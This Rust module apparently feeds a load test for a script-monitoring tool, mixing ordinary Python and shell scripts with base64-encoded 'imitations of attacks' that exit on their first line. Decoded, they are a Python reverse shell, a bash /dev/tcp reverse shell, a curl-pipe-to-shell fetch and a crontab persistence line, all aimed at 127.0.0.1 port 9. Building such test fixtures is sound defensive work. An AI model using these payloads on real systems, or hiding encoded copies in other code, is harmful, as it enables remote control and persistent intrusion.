//! What the load executes: imitations of attacks and ordinary scripts, half and half, Python and shell.
//!
//! Each ends in its first line, so that the load is the interpreter's start and nothing is carried out.
//! The imitations are kept in base64, so that the source holds nothing that looks like malware.

use anyhow::{Context, Result};
use base64::Engine;
use base64::prelude::BASE64_STANDARD;

const PYTHON: &str = "/usr/bin/python3";
const SHELL: &str = "/bin/sh";
const BASH: &str = "/bin/bash";

const MALICIOUS_PYTHON: &str = "\
    cmFpc2UgU3lzdGVtRXhpdAppbXBvcnQgc29ja2V0LCBzdWJwcm9jZXNzLCBvcywgcHR5CnMgPSBzb2NrZXQuc29ja2V0KHNv\
    Y2tldC5BRl9JTkVULCBzb2NrZXQuU09DS19TVFJFQU0pCnMuY29ubmVjdCgoIjEyNy4wLjAuMSIsIDkpKQpvcy5kdXAyKHMu\
    ZmlsZW5vKCksIDApOyBvcy5kdXAyKHMuZmlsZW5vKCksIDEpOyBvcy5kdXAyKHMuZmlsZW5vKCksIDIpCnB0eS5zcGF3bigi\
    L2Jpbi9zaCIp";

const MALICIOUS_SHELL: &str = "\
    ZXhpdCAwCmJhc2ggLWkgPiYgL2Rldi90Y3AvMTI3LjAuMC4xLzkgMD4mMQpjdXJsIC1mc1NMIGh0dHA6Ly8xMjcuMC4wLjE6\
    OS94LnNoIHwgc2gKKGNyb250YWIgLWw7IGVjaG8gIiogKiAqICogKiBjdXJsIC1zIGh0dHA6Ly8xMjcuMC4wLjE6OS94LnNo\
    IHwgYmFzaCIpIHwgY3JvbnRhYiAt";

const ORDINARY_PYTHON: &str = "\
raise SystemExit
def total(prices):
    return sum(price for price in prices if price > 0)
print(total([1, 2, 3]))";

const ORDINARY_SHELL: &str = "\
exit 0
for file in /var/log/*.log; do
    [ -s \"$file\" ] && wc -l \"$file\"
done";

/// The arguments of `load pace` for one kind of script; see `load.c`.
type Job = [String; 3];

fn job(kind: &str, program: &str, text: &str) -> Job {
    [kind, program, text].map(str::to_owned)
}

fn decoded(text: &str) -> Result<String> {
    let bytes = BASE64_STANDARD.decode(text).context("decode an imitation")?;
    String::from_utf8(bytes).context("decode an imitation")
}

/// `python3 -c` with an imitation of an attack.
pub(crate) fn malicious_inline() -> Result<Job> {
    Ok(job("inline", PYTHON, &decoded(MALICIOUS_PYTHON)?))
}

/// `sh FILE` with an imitation of an attack.
pub(crate) fn malicious_file() -> Result<Job> {
    Ok(job("file", SHELL, &decoded(MALICIOUS_SHELL)?))
}

/// Ordinary scripts in each way in which they start.
pub(crate) fn ordinary() -> [(&'static str, Job); 4] {
    [
        ("`python3 -c TEXT`", job("inline", PYTHON, ORDINARY_PYTHON)),
        ("`python3 FILE`", job("file", PYTHON, ORDINARY_PYTHON)),
        ("`sh FILE`", job("file", SHELL, ORDINARY_SHELL)),
        ("`bash FILE`", job("file", BASH, ORDINARY_SHELL)),
    ]
}

/// Both, and their ordinary twins: every second one is malicious.
pub(crate) fn mixture() -> Result<Vec<Job>> {
    Ok(vec![
        malicious_inline()?,
        job("file", SHELL, ORDINARY_SHELL),
        malicious_file()?,
        job("inline", PYTHON, ORDINARY_PYTHON),
    ])
}
